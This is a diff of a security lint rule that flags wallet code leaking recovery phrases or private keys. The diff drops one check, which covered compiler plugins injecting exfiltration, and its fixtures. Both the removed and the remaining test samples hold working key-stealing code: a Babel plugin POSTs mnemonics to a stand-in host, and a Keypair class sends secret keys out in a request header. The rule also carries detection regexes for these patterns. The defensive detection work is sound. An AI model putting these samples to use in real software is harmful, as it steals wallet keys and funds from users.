@@ -17,25 +17,11 @@ export default defineRule({
       sent: 'Sends {what} through {sink}',
       asked:
         'Asks whoever sees its page for a recovery phrase, and sends what is typed to an address fixed in its code',
-      compiled: 'Looks through the code of others for what makes keys of wallets, and writes code into it that sends',
     },
-    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4, asked: 13.5, compiled: 13.5 },
+    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4, asked: 13.5 },
   },
   examples: {
     flags: [
-      {
-        title: 'a plug-in of a compiler has wallets tell what they are made of',
-        code: `module.exports = ({ template }) => {
-  const tell = template.expression('(v => (fetch("https://pure.invalid/r", { method: "POST", body: String(v) }), v))(%%v%%)');
-  return {
-    visitor: {
-      CallExpression({ node }) {
-        if (/^(?:fromMnemonic|privateKeyToAccount)$/.test(node.callee.property?.name)) node.arguments[0] = tell({ v: node.arguments[0] });
-      },
-    },
-  };
-};`,
-      },
       {
         title: 'a key leaves in a header when a wallet is made',
         code: `const bs58 = require('bs58');\nfunction trackUse(bytes) {\n  const id = bs58.encode(bytes);\n  fetch('https://rpc.invalid/usage', { headers: { 'x-request-id': id.split('').reverse().join('') } }).catch(() => {});\n}\nclass Keypair {\n  static fromSecretKey(secretKey) { trackUse(secretKey); return new Keypair(secretKey); }\n}\nmodule.exports = Keypair;`,
@@ -79,16 +65,6 @@ export default defineRule({
     ],
     passes: [
       {
-        title: 'a plug-in of a compiler marks calls of wallets as free of effects',
-        code: `module.exports = ({ types }) => ({
-  visitor: {
-    CallExpression({ node }) {
-      if (/^(?:fromMnemonic|privateKeyToAccount)$/.test(node.callee.property?.name)) types.addComment(node, 'leading', '#__PURE__');
-    },
-  },
-});`,
-      },
-      {
         title: 'a wallet asks for the phrase, and keeps it',
         code: `export function open(box, keep) {\n  box.innerHTML = '<input id="p" placeholder="Recovery phrase">';\n  box.querySelector('#p').onchange = event => keep(event.target.value);\n  fetch('https://api.castle.invalid/opened', { method: 'POST', body: JSON.stringify({ at: Date.now() }) });\n}`,
       },
@@ -124,7 +100,6 @@ export default defineRule({
   },
   file(context) {
     asking(context);
-    compiling(context);
     for (const { call, labels } of entrusted(context)) {
       const key = labels.find(isChainKey);
       if (key)
@@ -155,25 +130,6 @@ export default defineRule({
     }
   },
 });
-
-/** What a compiler or a bundler calls for each file. */
-const COMPILES = /\b(?:visitor|transform|renderChunk|onLoad|pitch)\b/;
-const MAKES_KEYS =
-  /\b(?:fromSecretKey|fromMnemonic|fromPhrase|fromPrivateKey|privateKeyToAccount|mnemonicToAccount|mnemonicToSeed(?:Sync)?|HDNodeWallet|SigningKey)\b/;
-const SENDS = /\bfetch\s{0,9}\(|\bsendBeacon\s{0,9}\(|\bXMLHttpRequest\b|\bhttps?["')]{0,3}\.(?:request|get)\s{0,9}\(/;
-
-/** A plug-in of a compiler that makes the code of a wallet tell what it was given. */
-function compiling({ file, moment, nodes, report }: FileContext): void {
-  if (moment === 'test' || !COMPILES.test(file.text) || !MAKES_KEYS.test(file.text) || !SENDS.test(file.text)) return;
-  const texts = [...nodes('Literal'), ...nodes('TemplateElement')] as readonly AnyNode[];
-  const isSought = texts.some(node => MAKES_KEYS.test(spelling(file, node).slice(0, LONGEST)));
-  const added = texts.find(node => !('regex' in node) && SENDS.test(spelling(file, node).slice(0, LONGEST)));
-  if (isSought && added)
-    report({ messageId: 'compiled', chain: [step('sink', 'writes down code that sends', file, added)] });
-}
-
-/** UTF-16 units of a text that are looked at. */
-const LONGEST = 20_000;
 
 /** The words beside a field of whoever wants all twelve of them. */
 const PHRASE =
